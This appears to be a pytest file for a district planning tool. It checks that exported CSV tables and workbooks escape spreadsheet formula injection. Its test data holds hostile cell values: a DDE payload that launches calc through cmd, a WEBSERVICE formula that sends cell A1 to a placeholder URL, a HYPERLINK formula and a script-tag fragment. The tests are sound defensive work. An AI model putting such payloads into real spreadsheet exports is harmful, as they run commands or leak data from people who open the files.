"""Every table of an office that we write: no cell of it is a formula, whoever typed its text."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from planner.analysis.compare import compare
from planner.analysis.plan_bridge.compare_plans import compare_plans
from planner.analysis.roll_up.roll_up import PlanFailure, RollUp
from planner.analysis.roll_up.sections import plan_criteria, plan_investments
from planner.districts.f33 import read_districts
from planner.packaged import example
from planner.plan.cells.text import FORMULA_STARTS
from planner.plan.read import read_plan
from planner.publish.results import as_csv, ledger_text
from planner.publish.roll_up.roll_up_plans import roll_up
from planner.publish.roll_up.tables import write_tables, write_workbook
from planner.publish.screening import screened
from planner.views.screen.district_rows import screen_frame
from planner.workbook.cell_values import MOST_IN_A_CELL
from tests.tiny_plan import TINY, write_tiny

LINK = '=HYPERLINK("http://x","y")'
WEB = '=WEBSERVICE("http://x?"&A1)'
DDE = "+cmd|' /C calc'!A0"
SUM, MINUS, WIDE = "@SUM(A1)", "-2+3", "\uff1d1+1"
DAY = date(2026, 11, 29)
NUMBER = re.compile(r"-?[\d.]+(e-?\d+)?")


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def loud_tables() -> dict[str, str]:
    """The small plan, in which every word that a table of many districts shows is a formula."""
    loud = dict(TINY)
    for table, typed, instead in (
        ("district", "Tiny ISD", LINK),
        ("licenses", "Internet", WEB),
        ("funding", "State grant", DDE),
        ("staffing", "Technician", MINUS),
        ("actuals", "Technician", MINUS),
        ("devices", "Laptops", SUM),
        ("inventory", "Laptops", SUM),
        ("scenarios", "Levy fails", WIDE),
    ):
        loud[table] = loud[table].replace(typed, quoted(instead))
    loud["district"] += "state,OH,,\n"
    loud["explanations"] = f"name,explanation\nstructural_gap,{quoted(WEB)}\n"
    return loud


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two plans, one of them loud in all its words, and one that cannot be read."""
    folder = tmp_path_factory.mktemp("office") / "plans"
    write_tiny(folder / "=1+1", **loud_tables())
    write_tiny(folder / "@quiet")
    broken = TINY["devices"].replace("Laptops,staff_devices", f"Laptops,{quoted(LINK)}")
    write_tiny(folder / "-broken", devices=broken)
    return folder


@pytest.fixture(scope="module")
def found(office: Path) -> RollUp:
    return roll_up(office, ["base", "levy-fails"])


def cells_of(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def live(cells: set[str]) -> list[str]:
    """Cells that a spreadsheet would calculate."""
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]


def test_the_tables_of_many_districts_are_text(found: RollUp, tmp_path: Path) -> None:
    assert [one.plan for one in found.failures] == ["-broken"]
    cells: set[str] = set()
    for file in write_tables(found, tmp_path):
        own = cells_of(file.read_text("utf-8-sig"))
        assert live(own) == [], file.name
        cells |= own
    shown = " ".join(cells)
    for typed in (LINK, WEB, DDE, WIDE, MINUS, "=1+1", "-broken"):
        assert typed in shown, "it is shown as it was typed"
    assert {f"'{LINK}", "'=1+1", "'@quiet", "'-broken", f"'{WEB}"} <= cells


def test_the_workbook_of_the_same_tables_holds_no_formula(found: RollUp, tmp_path: Path) -> None:
    explained = replace(found, failures=(PlanFailure("x", "", "=" * (MOST_IN_A_CELL + 1)),))
    book = load_workbook(write_workbook(explained, tmp_path / "tables.xlsx", DAY))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert {LINK, "=1+1", WEB} <= texts, "in a workbook no apostrophe is needed"
    (cut,) = [text for text in texts if text.startswith("====")]
    assert cut.endswith("=... (longer than a cell of a workbook; the CSV file has all of it)")


def test_tables_of_one_plan_and_of_two_are_text(office: Path) -> None:
    loud, quiet = read_plan(office / "=1+1"), read_plan(office / "@quiet")
    comparison = compare(loud, ["levy-fails"])
    texts = {
        "investments": as_csv(plan_investments(comparison)),
        "criteria": as_csv(plan_criteria(comparison)),
        "ledger": ledger_text(comparison),
        "two plans": as_csv(compare_plans(loud, quiet).frame()),
    }
    for name, text in texts.items():
        assert live(cells_of(text)) == [], name
    assert all(WEB in text.replace('""', '"') for text in texts.values())


def test_the_table_of_a_screen_is_text(tmp_path: Path) -> None:
    file = tmp_path / "county.csv"
    rows = ((LINK, "=1", "OH"), (DDE, "@2", "+X"), ("</script><b>x", "", "-Y"), (WIDE, "", ""))
    body = "".join(
        f"{','.join(map(quoted, row))},{500 + 10 * place},90000\n" for place, row in enumerate(rows)
    )
    file.write_text(f"name,nces_id,state,students,technology_supplies\n{body}", encoding="utf-8")
    screen = screened(read_plan(example("prairie-view")), read_districts(file), draws=16)
    cells = cells_of(as_csv(screen_frame(screen.screen, screen.peers, screen.places)))
    assert live(cells) == []
    assert {f"'{LINK}", f"'{DDE}", "'=1", "'+X", f"'{WIDE}"} <= cells
